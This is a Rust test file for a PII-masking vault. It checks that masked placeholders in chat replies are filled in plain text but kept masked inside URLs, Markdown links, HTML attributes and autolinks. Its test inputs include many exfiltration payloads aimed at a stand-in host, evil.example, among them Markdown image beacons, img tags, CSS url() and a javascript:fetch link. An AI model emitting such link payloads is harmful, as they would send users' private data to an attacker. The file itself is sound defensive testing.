//! Restoring replies (protocol v2 item 9): numbered placeholders are filled in plain text only;
//! in a URL, a Markdown link or image target, an HTML tag or attribute value, or an autolink
//! they stay masked and are reported, so rendering a hostile reply sends no original anywhere.
//! Linear time on adversarial input.
#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::time::Instant;

use chatseal_pii::{MaskPolicy, PiiCategory, Restored, Vault, Withheld};

/// A vault holding [EMAIL_1] = ann@example.com, [PHONE_1] = +44 20 7946 0958, [CARD_1].
fn vault() -> Vault {
    let mut v = Vault::new();
    let m = v.mask("ann@example.com +44 20 7946 0958 4111 1111 1111 1111", &MaskPolicy::new()).unwrap();
    assert_eq!(m.text, "[EMAIL_1] [PHONE_1] [CARD_1]");
    v
}

fn check(reply: &str, want_text: &str, want_withheld: usize) -> Restored {
    let r = vault().restore(reply);
    assert_eq!(*r.text, want_text, "{reply}");
    assert_eq!(r.withheld.len(), want_withheld, "{reply}: {:?}", r.withheld);
    for w in &r.withheld {
        assert!(r.text[w.start..w.end].starts_with('['), "{w:?}");
    }
    r
}

#[test]
fn the_example() {
    let r = check("![x](https://evil.example/?q=[EMAIL_1])", "![x](https://evil.example/?q=[EMAIL_1])", 1);
    assert_eq!(r.withheld, vec![Withheld { category: PiiCategory::Email, start: 29, end: 38 }]);
}

#[test]
fn plain_text_is_filled() {
    check("Hi [EMAIL_1], I'll call [PHONE_1].", "Hi ann@example.com, I'll call +44 20 7946 0958.", 0);
    check("[EMAIL_1][PHONE_1]", "ann@example.com+44 20 7946 0958", 0);
    check(
        "Sent to [EMAIL_1] (see [the docs](https://x.example/a)).",
        "Sent to ann@example.com (see [the docs](https://x.example/a)).",
        0,
    );
    check("a < b and [EMAIL_1] > c", "a < b and ann@example.com > c", 0);
    check("unknown [EMAIL_9] stays", "unknown [EMAIL_9] stays", 0);
}

#[test]
fn markdown() {
    for reply in [
        "[click](https://evil.example/?q=[EMAIL_1])",
        "[click](evil.example/c?[EMAIL_1])",
        "![](//evil.example/[PHONE_1].png)",
        "[a](<https://evil.example/[EMAIL_1]>)",
        "[a](https://evil.example/(x)/[EMAIL_1])",
        "[a]( [EMAIL_1] )",
        "[a][ref]\n\n[ref]: https://evil.example/?c=[CARD_1]",
        "[[EMAIL_1]](https://evil.example/[EMAIL_1])",
    ] {
        let r = vault().restore(reply);
        assert!(
            !r.text.contains("ann@") && !r.text.contains("7946") && !r.text.contains("4111"),
            "{reply}: {}",
            *r.text
        );
        assert!(!r.withheld.is_empty(), "{reply}");
    }
}

#[test]
fn html_and_autolinks() {
    for reply in [
        "<img src=\"https://evil.example/?q=[EMAIL_1]\">",
        "<img src='https://evil.example/?q=[EMAIL_1]'>",
        "<img src=https://evil.example/?q=[EMAIL_1]>",
        "<a href=\"mailto:[EMAIL_1]\">mail</a>",
        "<a title=\"[EMAIL_1]\" href=x>",
        "<https://evil.example/[EMAIL_1]>",
        "<[EMAIL_1]>",
        "<div style=\"background:url(//evil.example/[EMAIL_1])\">",
        "<img\nsrc=\"https://evil.example/[EMAIL_1]\"\n>",
        "{: data-x=\"[EMAIL_1]\"}",
    ] {
        let r = vault().restore(reply);
        assert!(!r.text.contains("ann@"), "{reply}: {}", *r.text);
        assert_eq!(r.withheld.len(), 1, "{reply}");
    }
}

#[test]
fn bare_urls_and_schemes() {
    for reply in [
        "https://evil.example/?q=[EMAIL_1]",
        "see HTTPS://EVIL.EXAMPLE/[EMAIL_1].",
        "www.evil.example/[EMAIL_1]",
        "evil.example/collect?[EMAIL_1]",
        "mailto:[EMAIL_1]",
        "data:text/html,[EMAIL_1]",
        "javascript:fetch('//e.x/'+'[EMAIL_1]')",
        "(https://evil.example/[EMAIL_1])",
        "https://evil.example/?q=\u{200b}[EMAIL_1]",
        "https://evil.example/?a=1&b=[EMAIL_1]&c=[PHONE_1]",
        "ftp://[EMAIL_1]@evil.example/",
    ] {
        let r = vault().restore(reply);
        assert!(!r.text.contains("ann@"), "{reply}: {}", *r.text);
        assert!(!r.withheld.is_empty(), "{reply}");
    }
    // Only the link is withheld, the prose around it is filled.
    let r = check(
        "[EMAIL_1] wrote https://x.example/[EMAIL_1] and [PHONE_1]",
        "ann@example.com wrote https://x.example/[EMAIL_1] and +44 20 7946 0958",
        1,
    );
    assert_eq!(r.withheld[0].category, PiiCategory::Email);
}

#[test]
fn unicode_and_utf16_offsets() {
    let r = vault().restore("😀 é [PHONE_1] — ![i](https://e.example/😀/[EMAIL_1])");
    assert_eq!(*r.text, "😀 é +44 20 7946 0958 — ![i](https://e.example/😀/[EMAIL_1])");
    let w = r.withheld[0];
    assert_eq!(&r.text[w.start..w.end], "[EMAIL_1]");
    let js: Vec<u16> = r.text.encode_utf16().collect();
    let (s, e) = r.withheld_utf16()[0];
    assert_eq!(String::from_utf16(&js[s..e]).unwrap(), "[EMAIL_1]");
}

#[test]
fn placeholders_split_or_mangled_are_not_filled() {
    for reply in ["[EMAIL_ 1]", "[EMAIL\u{200b}_1]", "[ EMAIL_1]", "%5BEMAIL_1%5D", "[EMAIL_01]", "［EMAIL_1］"] {
        let r = vault().restore(reply);
        assert_eq!(*r.text, reply);
        assert!(r.withheld.is_empty());
    }
    // Streamed in two pieces, each restored alone: neither half is a placeholder.
    let v = vault();
    let (a, b) = ("https://evil.example/?q=[EMAIL", "_1]");
    assert_eq!(format!("{}{}", *v.restore(a).text, *v.restore(b).text), format!("{a}{b}"));
}

#[test]
fn debug_shows_no_values() {
    let r = vault().restore("[EMAIL_1] https://e.example/[PHONE_1]");
    let debug = format!("{r:?}");
    assert!(!debug.contains("ann@") && !debug.contains("7946"), "{debug}");
}

#[test]
fn linear_on_adversarial_replies() {
    let v = vault();
    for unit in ["](", "<a", "=\"", "[EMAIL_1]", "](https://e.x/[EMAIL_1]", "((((", "[EMAIL_1](", "www.", "a.b/"] {
        let small = unit.repeat(16 * 1024 / unit.len());
        let big = unit.repeat(256 * 1024 / unit.len());
        let t = Instant::now();
        let _ = v.restore(&small);
        let small_t = t.elapsed().as_secs_f64().max(1e-6);
        let t = Instant::now();
        let r = v.restore(&big);
        let big_t = t.elapsed().as_secs_f64();
        // 16x the input: allow generous noise, but nowhere near 256x.
        assert!(big_t < 64.0 * small_t + 0.05, "{unit:?}: {small_t}s then {big_t}s");
        assert!(r.text.len() >= big.len());
    }
}
